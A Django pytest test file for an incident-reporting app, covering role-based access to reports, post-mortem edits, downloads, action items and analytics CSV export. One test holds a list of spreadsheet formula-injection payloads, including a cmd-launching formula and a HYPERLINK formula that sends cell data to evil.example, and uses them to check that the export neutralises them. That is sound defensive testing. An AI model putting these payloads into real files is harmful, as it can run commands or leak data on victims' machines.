import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from crisis.reports.action_item_deadlines import action_item_deadline, action_item_due_at
from crisis.reports.models import PostMortem
from crisis.reports.services import action_item_create, report_build, report_request

from .factories import ActionItemFactory

pytestmark = pytest.mark.django_db


def report_url(incident, name="reports:report", **kw):
    return reverse(name, kwargs={"pk": incident.pk, **kw})


def test_it_shows_the_report_to_a_viewer(hand_built, people, client_for):
    response = client_for(people["viewer"]).get(report_url(hand_built))
    assert response.status_code == 200 and "Total breached minutes" in response.content.decode()


def test_it_offers_a_viewer_no_controls(hand_built, people, client_for):
    response = client_for(people["viewer"]).get(report_url(hand_built))
    assert reverse("reports:postmortem-edit", kwargs={"pk": hand_built.pk}) not in response.content.decode()


def test_it_hides_the_report_from_an_outsider(hand_built, people, client_for):
    assert client_for(people["outsider"]).get(report_url(hand_built)).status_code == 404


def test_it_refuses_a_viewer_saving_the_postmortem(hand_built, people, client_for):
    response = client_for(people["viewer"]).post(report_url(hand_built, "reports:postmortem-edit"),
                                                 {"summary": "x", "version": 0})
    assert response.status_code == 403


def test_it_saves_the_postmortem_for_a_responder(hand_built, people, client_for):
    client_for(people["responder"]).post(report_url(hand_built, "reports:postmortem-edit"),
                                         {"summary": "Slow legal review.", "version": 0})
    assert PostMortem.objects.get(incident=hand_built).summary == "Slow legal review."


def test_it_answers_a_stale_postmortem_edit_with_a_conflict(hand_built, people, client_for):
    client = client_for(people["responder"])
    client.post(report_url(hand_built, "reports:postmortem-edit"), {"summary": "One.", "version": 0})
    response = client.post(report_url(hand_built, "reports:postmortem-edit"), {"summary": "Two.", "version": 0})
    assert response.status_code == 409


def test_it_downloads_the_last_generated_file(hand_built, people, client_for):
    report = report_request(incident=hand_built, actor=people["responder"], format="md")
    report_build(report_id=report.pk)
    response = client_for(people["viewer"]).get(report_url(hand_built, "reports:download", fmt="md"))
    assert b"# Post-mortem" in b"".join(response.streaming_content)


def test_it_hides_a_generated_file_from_an_outsider(hand_built, people, client_for):
    report = report_request(incident=hand_built, actor=people["responder"], format="md")
    report_build(report_id=report.pk)
    response = client_for(people["outsider"]).get(report_url(hand_built, "reports:download", fmt="md"))
    assert response.status_code == 404


def test_it_shows_generation_progress(hand_built, people, client_for):
    report = report_request(incident=hand_built, actor=people["responder"], format="pdf")
    response = client_for(people["viewer"]).get(report_url(hand_built, "reports:file-status", file_pk=report.pk))
    assert (response.json()["status"], response.json()["progress"]) == ("queued", 0)


def test_it_lists_open_action_items_across_incidents(hand_built, people, client_for):
    ActionItemFactory(incident=hand_built, title="Open battery test sites")
    ActionItemFactory(incident=hand_built, title="Already done", status="done")
    page = client_for(people["viewer"]).get(reverse("reports:action-items")).content.decode()
    assert "Open battery test sites" in page and "Already done" not in page


def test_it_shows_compliance_charts_on_the_analytics_page(hand_built, people, client_for):
    page = client_for(people["viewer"]).get(reverse("reports:analytics")).content.decode()
    # Compliance by step (drawn for a laptop and for a phone), time to first statement by quarter and by severity,
    # recovery; one quarter: no trend line.
    assert page.count("<svg") == 5
    assert "Golden-4-hours compliance: deadlines by step" in page


def test_it_exports_analytics_as_csv(hand_built, people, client_for):
    response = client_for(people["viewer"]).get(reverse("reports:analytics-csv") + "?table=incidents")
    rows = response.content.decode("utf-8-sig").splitlines()
    assert rows[1].startswith(f"{hand_built.pk},S7 电池冒烟 / S7 battery smoke,2,2026-Q4,resolved,")


HOSTILE_TITLES = ["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1)',
                  "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_it_exports_no_title_a_spreadsheet_would_run_as_a_formula(hand_built, people, client_for):
    from tests.factories import IncidentFactory

    for title in HOSTILE_TITLES:
        IncidentFactory(organization=hand_built.organization, title=title, first_public_signal_at=hand_built.
                        first_public_signal_at, status="resolved")
    response = client_for(people["viewer"]).get(reverse("reports:analytics-csv") + "?table=incidents")
    titles = [row[1] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))][1:]

    assert sorted(t for t in titles if t != hand_built.title) == sorted("'" + t for t in HOSTILE_TITLES)


def test_the_report_page_moves_an_action_item_s_due_date_and_its_deadline_follows(hand_built, people, client_for):
    """The golden clock sends people here to change an item's date: the page must be able to."""
    item = action_item_create(incident=hand_built, actor=people["responder"], title="换掉第三方电池供应商",
                              owner=people["approver"], due_on=date(2030, 1, 10))
    client = client_for(people["responder"])
    page = client.get(report_url(hand_built)).content.decode()
    assert 'name="due_on" value="2030-01-10"' in page
    url = reverse("reports:action-item-status", args=[item.pk])
    client.post(url, {"status": "open", "due_on": "2030-02-01", "version": item.version})
    item.refresh_from_db()
    assert item.due_on == date(2030, 2, 1)
    deadline = action_item_deadline(item)
    assert deadline.due_at == action_item_due_at(due_on=date(2030, 2, 1), incident=hand_built)  # its end
    # The list of all items posts the status alone: the date stays.
    client.post(url, {"status": "in_progress", "version": item.version})
    item.refresh_from_db()
    assert (item.status, item.due_on) == ("in_progress", date(2030, 2, 1))
    # A bad date is refused with a message, and nothing changes.
    response = client.post(url, {"status": "done", "due_on": "not a date", "version": item.version}, follow=True)
    assert "Choose a status and a valid date." in response.content.decode()
    item.refresh_from_db()
    assert (item.status, item.due_on) == ("in_progress", date(2030, 2, 1))
